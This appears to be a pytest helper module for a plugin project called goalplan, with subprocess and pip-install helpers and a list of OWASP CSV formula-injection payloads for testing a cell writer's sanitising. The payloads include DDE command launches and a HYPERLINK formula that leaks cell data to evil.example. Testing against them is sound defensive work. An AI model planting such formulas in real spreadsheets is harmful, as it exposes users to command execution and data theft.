"""Helpers shared by the plugin tests (imported by name; pytest puts this folder on sys.path)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

WORKTREE = Path(__file__).resolve().parents[2]

# OWASP CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) plus the
# remaining leading characters ASVS 5.0 V1.2.10 names.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+2",
    "\n=1+2",
    " =1+2",
    "  @SUM(1+9)",
    "\u200b=1+2",
    '\ufeff=HYPERLINK("http://evil.example")',
    "\u3000+1+2",
    "\uff1d1+2",
    "\uff0bcmd",
    "|calc",
    "\u2060 -2+3",
)
# The log refuses NUL and CR in text (and tab and newline in one-line fields such as names and
# units), so those leading characters are tested on the cell writer directly.


def run_goalplan(
    *args: str, extra_path: tuple[Path, ...] = (), env: dict[str, str | None] | None = None
) -> subprocess.CompletedProcess[bytes]:
    """``python -m goalplan ...`` in a fresh process importing this worktree's code.

    An ``env`` value of None removes that variable.
    """
    paths = [str(WORKTREE / "core"), str(WORKTREE / "plugins"), *map(str, extra_path)]
    full_env = {**os.environ, "PYTHONPATH": os.pathsep.join(paths)}
    for name, value in (env or {}).items():
        if value is None:
            full_env.pop(name, None)
        else:
            full_env[name] = value
    return subprocess.run([sys.executable, "-m", "goalplan", *args], capture_output=True, env=full_env)


EXAMPLE_PLUGIN = WORKTREE / "examples" / "goalplan-markdown"


def pip_install_target(project: Path, target: Path, scratch: Path) -> None:
    """Install ``project`` with pip into the folder ``target`` (not the running environment).

    The project is copied first so the build leaves nothing behind in the source tree. A build
    without isolation is tried first (fast, offline); if the installed setuptools cannot build
    wheels, pip builds in an isolated environment instead.
    """
    source = scratch / project.name
    shutil.copytree(project, source, ignore=shutil.ignore_patterns("build", "*.egg-info", "__pycache__"))
    base = [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--target", str(target)]
    fast = subprocess.run([*base, "--no-build-isolation", str(source)], capture_output=True, text=True)
    if fast.returncode == 0:
        return
    shutil.rmtree(target, ignore_errors=True)
    isolated = subprocess.run([*base, str(source)], capture_output=True, text=True)
    if isolated.returncode != 0:
        raise RuntimeError(f"pip could not install {project.name}:\n{fast.stderr}\n{isolated.stderr}")
